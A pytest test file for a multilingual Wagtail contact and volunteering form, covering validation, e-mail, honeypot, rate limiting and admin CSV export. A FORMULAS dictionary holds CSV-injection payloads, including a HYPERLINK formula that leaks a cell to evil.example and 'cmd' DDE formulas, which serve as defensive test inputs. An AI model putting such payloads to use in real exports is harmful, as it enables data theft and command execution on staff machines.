"""Take Action: the contact and volunteering form, its spam protection, its storage, export and e-mail."""

import csv
import io
import re
from html import unescape

import pytest
from django.core import mail
from django.test import Client, RequestFactory
from django.utils import translation
from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Page
from wagtail.test.utils import WagtailPageTestCase
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

from core import ratelimit
from engage.forms import CONSENT_FIELD, HONEYPOT_FIELD
from engage.models import FormField, TakeActionPage
from home.models import SectionPage
from home.seed import content_en
from home.seed.translations import TRANSLATIONS
from tests.factories import HomePageFactory, SectionPageFactory

LANGUAGES = ["en", "fr", "nl", "de"]
SEED_FORM = content_en.TAKE_ACTION_FORM


def take_action_page(code="en"):
    return TakeActionPage.objects.get(locale__language_code=code)


def in_language(text, code):
    """A seeded English string as the seed translated it (choices are joined with <br/> by wagtail-localize)."""
    if code == "en":
        return text
    key = text.replace("\n", "<br/>")
    return TRANSLATIONS[code][key].replace("<br/>", "\n")


def answers(code="en", **overrides):
    """What a visitor types in the seeded form, in their language."""
    choices = in_language(SEED_FORM["form_fields"][2]["choices"], code).splitlines()
    data = {
        "name": "Marie Dupont",
        "email": "marie@example.org",
        "how_to_help": choices[0],
        "message": "I speak Arabic and French & could help on Saturdays.",
        CONSENT_FIELD: "on",
        HONEYPOT_FIELD: "",
    }
    data.update(overrides)
    return {name: value for name, value in data.items() if value is not None}


def html(response):
    return response.content.decode()


def field_tag(body, name):
    """The opening tag of the form control named `name`."""
    match = re.search(rf'<(input|select|textarea)[^>]*name="{re.escape(name)}"[^>]*>', body)
    assert match, f"no control named {name}"
    return match.group(0)


# --- The seeded page, in every language --------------------------------------------------------


@pytest.mark.parametrize("code", LANGUAGES)
def test_seeded_take_action_page_is_a_form_with_calls_to_action_in_each_language(client, seeded_site, code):
    page = take_action_page(code)
    assert page.live
    assert isinstance(page.get_parent().specific, SectionPage)
    response = client.get(page.url)
    assert response.status_code == 200
    body = html(response)
    assert f'<html lang="{code}"' in body
    for field in SEED_FORM["form_fields"]:
        assert in_language(field["label"], code) in body
    for choice in in_language(SEED_FORM["form_fields"][2]["choices"], code).splitlines():
        assert f'<option value="{choice}">{choice}</option>' in body
    assert in_language(SEED_FORM["consent_text"], code) in body
    assert 'href="https://www.iom.int/donate"' in body
    assert 'href="https://www.iom.int/partnerships"' in body
    assert in_language("Support IOM", code) in body
    with translation.override(code):
        for text in ["Write to us", "Send", "required"]:
            assert translation.gettext(text) in body
            if code != "en":
                assert translation.gettext(text) != text, f"{text!r} has no {code} translation"


@pytest.mark.parametrize("code", LANGUAGES)
def test_answers_are_stored_under_the_same_names_in_every_language(seeded_site, code):
    english = [field.clean_name for field in take_action_page("en").form_fields.all()]
    translated = take_action_page(code).form_fields.all()
    assert (
        [field.clean_name for field in translated] == english == ["name", "email", "how_to_help", "message"]
    )
    assert all(field.locale.language_code == code for field in translated)


def test_take_action_page_is_reachable_from_its_section_in_each_language(client, seeded_site):
    for code in LANGUAGES:
        page = take_action_page(code)
        section = page.get_parent()
        assert f'href="{page.url}"' in html(client.get(section.url))


# --- Bad submissions -----------------------------------------------------------------------------


@pytest.mark.parametrize("code", LANGUAGES)
def test_an_invalid_email_shows_the_error_in_the_visitors_language_and_keeps_what_was_typed(
    client, seeded_site, code
):
    page = take_action_page(code)
    data = answers(code, email="marie-at-example")
    response = client.post(page.url, data)
    assert response.status_code == 200
    body = html(response)
    with translation.override(code):
        error = translation.gettext("Enter a valid email address.")
        assert translation.gettext("Please correct the following:") in body
    assert error in body
    if code != "en":
        assert error != "Enter a valid email address."
    email = field_tag(body, "email")
    assert 'value="marie-at-example"' in email
    assert 'aria-invalid="true"' in email
    assert "id_email_error" in email  # aria-describedby points at the message
    assert 'id="id_email_error"' in body
    assert 'value="Marie Dupont"' in field_tag(body, "name")
    assert "I speak Arabic and French &amp; could help on Saturdays.</textarea>" in body
    assert f'<option value="{data["how_to_help"]}" selected>' in body
    assert "checked" in field_tag(body, CONSENT_FIELD)
    assert "<title>" in body and re.search(r"<title>[^<]*:", body)  # the title says there is an error
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


@pytest.mark.parametrize("code", LANGUAGES)
def test_the_error_summary_names_the_consent_box_in_a_word(client, seeded_site, code):
    page = take_action_page(code)
    body = html(client.post(page.url, answers(code, **{CONSENT_FIELD: None})))
    summary = re.search(r'<div class="notice notice--error error-summary".*?</div>', body, re.S).group(0)
    with translation.override(code):
        label = translation.gettext("Consent")
        message = translation.gettext("Please tick this box so that we may use your details to reply.")
    assert f"{label}: {message}" in unescape(summary)
    if code != "en":
        assert label != "Consent"
    consent_sentence = page.consent_text
    assert consent_sentence[:40] not in unescape(summary)  # the whole consent sentence is left to the form


def test_the_consent_box_is_required_and_cannot_be_removed_by_editors(client, seeded_site, settings):
    page = take_action_page("fr")
    response = client.post(page.url, answers("fr", **{CONSENT_FIELD: None}))
    assert response.status_code == 200
    with translation.override("fr"):
        assert translation.gettext("Please tick this box so that we may use your details to reply.") in html(
            response
        )
    assert FormSubmission.objects.count() == 0
    # A form whose editor removed every field still asks for consent, with the page's text.
    page.form_fields.all().delete()
    page = TakeActionPage.objects.get(pk=page.pk)
    form = page.get_form()
    assert list(form.fields) == [CONSENT_FIELD, HONEYPOT_FIELD]
    assert form.fields[CONSENT_FIELD].required
    assert form.fields[CONSENT_FIELD].label == page.consent_text


def test_required_fields_are_marked_and_help_text_is_announced(client, seeded_site):
    body = html(client.get(take_action_page().url))
    name_label = re.search(r'<label[^>]*for="id_name"[^>]*>.*?</label>', body, re.S).group(0)
    assert "(required)" in name_label
    assert "required" in field_tag(body, "name")
    assert "(required)" not in re.search(r'<label[^>]*for="id_message"[^>]*>.*?</label>', body, re.S).group(0)
    assert 'aria-describedby="id_email_helptext"' in field_tag(body, "email")
    assert 'id="id_email_helptext"' in body


def test_a_required_dropdown_starts_with_no_answer_chosen(client, seeded_site):
    page = take_action_page()
    body = html(client.get(page.url))
    assert re.search(r'<select name="how_to_help"[^>]*>\s*<option value="" selected>', body)
    response = client.post(page.url, answers(how_to_help=""))
    assert "This field is required." in html(response)
    assert FormSubmission.objects.count() == 0


# --- Good submissions ------------------------------------------------------------------------------


def test_a_valid_submission_is_stored_mailed_to_the_office_and_thanked(client, seeded_site, settings):
    settings.FORMS_TO_ADDRESS = "office@example.org, partners@example.org"
    page = take_action_page("fr")
    data = answers("fr")
    response = client.post(page.url, data)
    # Post/Redirect/Get: the thanks have an address of their own, so a reload sends nothing again.
    assert response.status_code == 303
    assert response["Location"] == f"{page.url}?sent=1"
    thanks = client.get(response["Location"])
    assert thanks.status_code == 200
    assert "Merci d’avoir écrit à l’OIM Belgique et Luxembourg" in html(thanks)
    assert [t.name for t in thanks.templates][0] == "engage/take_action_page_landing.html"
    client.get(response["Location"])  # reloaded
    assert FormSubmission.objects.count() == 1

    submission = FormSubmission.objects.get()
    assert submission.page_id == page.pk
    assert submission.form_data == {
        "name": "Marie Dupont",
        "email": "marie@example.org",
        "how_to_help": data["how_to_help"],
        "message": data["message"],
        CONSENT_FIELD: True,
    }

    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["office@example.org", "partners@example.org"]
    assert message.reply_to == ["marie@example.org"]
    assert "Agir" in message.subject and "(fr)" in message.subject
    assert "Votre nom: Marie Dupont" in message.body
    assert f"Comment souhaitez-vous aider ?: {data['how_to_help']}" in message.body
    assert page.full_url in message.body
    assert HONEYPOT_FIELD not in message.body


def test_the_pages_own_address_wins_over_the_site_setting(client, seeded_site, settings):
    settings.FORMS_TO_ADDRESS = "office@example.org"
    page = take_action_page()
    page.to_address = "volunteers@example.org"
    page.save_revision().publish()
    client.post(page.url, answers())
    assert [m.to for m in mail.outbox] == [["volunteers@example.org"]]


def test_without_an_address_submissions_are_stored_but_not_mailed(client, seeded_site, settings):
    settings.FORMS_TO_ADDRESS = ""
    response = client.post(take_action_page().url, answers())
    assert response.status_code == 303
    assert FormSubmission.objects.count() == 1
    assert mail.outbox == []


def test_a_mail_server_failure_loses_no_submission(client, seeded_site, settings, monkeypatch, caplog):
    settings.FORMS_TO_ADDRESS = "office@example.org"

    def broken(*args, **kwargs):
        raise ConnectionRefusedError("no SMTP server")

    monkeypatch.setattr("engage.models.send_mail", broken)
    response = client.post(take_action_page().url, answers())
    assert response.status_code == 303
    assert FormSubmission.objects.count() == 1
    assert "could not be sent" in caplog.text


def test_staff_export_the_submissions_as_csv_from_the_admin(client, admin_client, seeded_site):
    page = take_action_page("nl")
    client.post(page.url, answers("nl", name="Jan Peeters", message="Graag, op zaterdag."))
    client.post(page.url, answers("nl", name="Eva Janssens", email="eva@example.org"))
    response = admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, *records = rows
    assert header[1:] == ["Uw naam", "Uw e-mailadres", "Hoe wilt u helpen?", "Uw bericht", "Consent given"]
    assert [record[1] for record in records] == ["Jan Peeters", "Eva Janssens"]
    assert records[0][4] == "Graag, op zaterdag."
    assert records[1][2] == "eva@example.org"


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?leak="&C2,"Click for details")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.mark.parametrize("start", FORMULAS)
def test_exported_cells_that_start_like_a_formula_are_text(admin_client, seeded_site, start):
    """OWASP's CSV injection advice: a leading apostrophe makes the spreadsheet show the cell as text."""
    page = take_action_page()
    formula = FORMULAS[start]
    FormSubmission.objects.create(
        page=page, form_data={"name": formula, "email": "marie@example.org", "message": f"{formula} again"}
    )
    header, record = csv_rows(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
    assert record[header.index("Your name")] == "'" + formula
    assert record[header.index("Your message")] == "'" + formula + " again"
    assert record[header.index("Your e-mail address")] == "marie@example.org"  # other cells as they were


def test_a_formula_sent_through_the_form_is_stored_as_sent_and_exported_as_text(
    client, admin_client, seeded_site
):
    page = take_action_page()
    formula = FORMULAS["="]
    assert (
        client.post(page.url, answers(name=formula)).status_code == 303
    )  # sent, then redirected to the thank-you address
    assert FormSubmission.objects.get(page=page).get_data()["name"] == formula
    header, record = csv_rows(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
    assert record[header.index("Your name")] == "'" + formula


def test_ordinary_answers_and_field_labels_export_unchanged_but_formula_labels_do_not(
    client, admin_client, seeded_site
):
    page = take_action_page()
    field = page.form_fields.get(clean_name="name")
    field.label = "=Name"  # an editor's label that a spreadsheet would run
    field.save()
    client.post(page.url, answers(name="Anne-Marie O'Neil", message="Hello - see you on 3/4 = Saturday"))
    header, record = csv_rows(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
    assert header[1] == "'=Name"
    assert record[1] == "Anne-Marie O'Neil"
    assert record[header.index("Your message")] == "Hello - see you on 3/4 = Saturday"


def test_moderators_read_and_export_submissions_and_editors_and_translators_do_not(
    client, seeded_site, django_user_model
):
    from django.contrib.auth.models import Group

    english, french = take_action_page("en"), take_action_page("fr")
    client.post(english.url, answers("en"))
    client.post(french.url, answers("fr"))
    staff = Client()
    for number, (group, may) in enumerate(
        [("Moderators", True), ("Editors", False), ("Translators (French)", False)]
    ):
        user = django_user_model.objects.create_user(f"member-{number}", "m@example.org", "x" * 12)
        user.groups.add(Group.objects.get(name=group))
        staff.force_login(user)
        # The Forms menu, the list of forms, the submissions and their export: for those who may read them only.
        assert ('"/admin/forms/"' in html(staff.get("/admin/"))) is may, group
        listing = staff.get("/admin/forms/")
        assert (listing.status_code == 200 and french.title in html(listing)) is may, group
        assert (staff.get(f"/admin/forms/submissions/{french.pk}/?export=csv").status_code == 200) is may, (
            group
        )
        if group != "Translators (French)":
            # The English form page's editor shows the count of submissions and links to them, to readers only.
            editor = staff.get(f"/admin/pages/{english.pk}/edit/")
            assert editor.status_code == 200
            assert (f"/admin/forms/submissions/{english.pk}/" in html(editor)) is may, group


def test_visitors_cannot_see_the_submissions(client, seeded_site):
    page = take_action_page()
    client.post(page.url, answers())
    response = client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


# --- Bots --------------------------------------------------------------------------------------------


def test_a_filled_in_honeypot_is_thanked_but_nothing_is_stored_or_sent(client, seeded_site, settings):
    settings.FORMS_TO_ADDRESS = "office@example.org"
    page = take_action_page()
    response = client.post(page.url, answers(**{HONEYPOT_FIELD: "https://cheap-pills.example"}), follow=True)
    assert response.redirect_chain == [(f"{page.url}?sent=1", 303)]
    assert "Thank you for writing to IOM Belgium and Luxembourg" in html(response)
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


def test_the_honeypot_is_hidden_from_people_and_assistive_technology(client, seeded_site):
    body = html(client.get(take_action_page().url))
    trap = re.search(r'<div class="form-trap" aria-hidden="true">.*?</div>', body, re.S)
    assert trap, "the honeypot is not inside an aria-hidden container"
    control = field_tag(trap.group(0), HONEYPOT_FIELD)
    assert 'tabindex="-1"' in control
    assert 'autocomplete="off"' in control
    assert "required" not in control


@pytest.mark.parametrize("code", ["en", "fr"])
def test_more_than_five_submissions_in_ten_minutes_from_one_address_are_refused(
    client, seeded_site, settings, code
):
    settings.FORMS_TO_ADDRESS = ""
    page = take_action_page(code)
    for n in range(settings.FORMS_RATE_LIMIT):
        response = client.post(page.url, answers(code, name=f"Visitor {n}"), REMOTE_ADDR="192.0.2.10")
        assert response.status_code == 303
    response = client.post(
        page.url,
        answers(code, name="One too many"),
        REMOTE_ADDR="192.0.2.10",
        HTTP_X_FORWARDED_FOR="198.51.100.7",
    )
    assert response.status_code == 429
    assert response["Retry-After"] == str(settings.FORMS_RATE_LIMIT_WINDOW)
    body = html(response)
    english = (
        "You have sent several messages in a short time. Please wait a few minutes, then send the form again. "
        "What you typed is still below."
    )
    with translation.override(code):
        notice = translation.gettext(english)
    assert notice in unescape(body)
    if code != "en":
        assert notice != english
    assert 'value="One too many"' in field_tag(body, "name")
    assert FormSubmission.objects.count() == settings.FORMS_RATE_LIMIT
    # Another address is not held back.
    response = client.post(page.url, answers(code), REMOTE_ADDR="192.0.2.11")
    assert response.status_code == 303
    assert FormSubmission.objects.count() == settings.FORMS_RATE_LIMIT + 1


def test_bots_filling_the_honeypot_are_rate_limited_too(client, seeded_site, settings):
    page = take_action_page()
    trapped = answers(**{HONEYPOT_FIELD: "spam"})
    statuses = [client.post(page.url, trapped, REMOTE_ADDR="203.0.113.5").status_code for _ in range(6)]
    assert statuses == [303] * 5 + [429]
    assert FormSubmission.objects.count() == 0


def test_forwarded_addresses_count_only_behind_trusted_proxies(settings):
    factory = RequestFactory()
    spoofed = factory.post("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="198.51.100.1, 203.0.113.9")
    settings.TRUSTED_PROXY_COUNT = 0
    assert ratelimit.client_address(spoofed) == "10.0.0.2"
    settings.TRUSTED_PROXY_COUNT = 1  # one load balancer: it appended the address it saw last
    assert ratelimit.client_address(spoofed) == "203.0.113.9"
    settings.TRUSTED_PROXY_COUNT = 2  # a CDN, then the load balancer
    assert ratelimit.client_address(spoofed) == "198.51.100.1"
    settings.TRUSTED_PROXY_COUNT = 3  # fewer entries than proxies: the header is not trusted
    assert ratelimit.client_address(spoofed) == "10.0.0.2"


def test_one_ipv6_network_counts_as_one_visitor(settings):
    factory = RequestFactory()
    first = factory.post("/", REMOTE_ADDR="2001:db8:1:2::10")
    second = factory.post("/", REMOTE_ADDR="2001:db8:1:2:ffff::1")
    assert ratelimit.client_address(first) == ratelimit.client_address(second) == "2001:db8:1:2::/64"
    assert ratelimit.client_address(factory.post("/", REMOTE_ADDR="")) == "unknown"


def test_the_limit_starts_again_when_the_window_has_passed(settings, db):
    from django.core.cache import cache

    request = RequestFactory().post("/", REMOTE_ADDR="192.0.2.99")
    assert all(ratelimit.allow(request, limit=2) for _ in range(2))
    assert not ratelimit.allow(request, limit=2)
    cache.clear()  # the window's key has expired
    assert ratelimit.allow(request, limit=2)


# --- Editors ------------------------------------------------------------------------------------------


class TakeActionPageEditorTests(WagtailPageTestCase):
    @classmethod
    def setUpTestData(cls):
        root = Page.get_first_root_node()
        cls.home = HomePageFactory(parent=root, title="Home", slug="home-page")
        cls.section = SectionPageFactory(parent=cls.home, title="Cross-cutting")

    def setUp(self):
        self.login()

    def test_take_action_page_lives_in_sections_only(self):
        self.assertAllowedParentPageTypes(TakeActionPage, {SectionPage})
        self.assertAllowedSubpageTypes(TakeActionPage, set())
        self.assertCanCreateAt(SectionPage, TakeActionPage)

    def test_an_editor_builds_a_form_with_fields_of_their_choice(self):
        self.assertCanCreate(
            self.section,
            TakeActionPage,
            nested_form_data(
                {
                    "title": "Volunteer with us",
                    "slug": "volunteer",
                    "intro": "Give some of your time.",
                    "body": streamfield([]),
                    "consent_text": "I agree that you keep my details to reply to me.",
                    "thank_you_text": rich_text("<p>Thanks!</p>"),
                    "to_address": "",
                    "from_address": "",
                    "subject": "",
                    "form_fields": inline_formset(
                        [
                            {"label": "Your name", "field_type": "singleline", "required": "on"},
                            {
                                "label": "Languages you speak",
                                "field_type": "checkboxes",
                                "choices": "French\nDutch",
                            },
                        ]
                    ),
                }
            ),
        )
        page = TakeActionPage.objects.get(slug="volunteer")
        fields = list(page.form_fields.all())
        assert [(f.clean_name, f.locale_id) for f in fields] == [
            ("your_name", page.locale_id),
            ("languages_you_speak", page.locale_id),
        ]
        assert set(page.get_form().fields) == {
            "your_name",
            "languages_you_speak",
            CONSENT_FIELD,
            HONEYPOT_FIELD,
        }

    def test_the_form_field_model_is_translatable(self):
        assert FormField._meta.get_field("locale")
        assert ("translation_key", "locale") in FormField._meta.unique_together
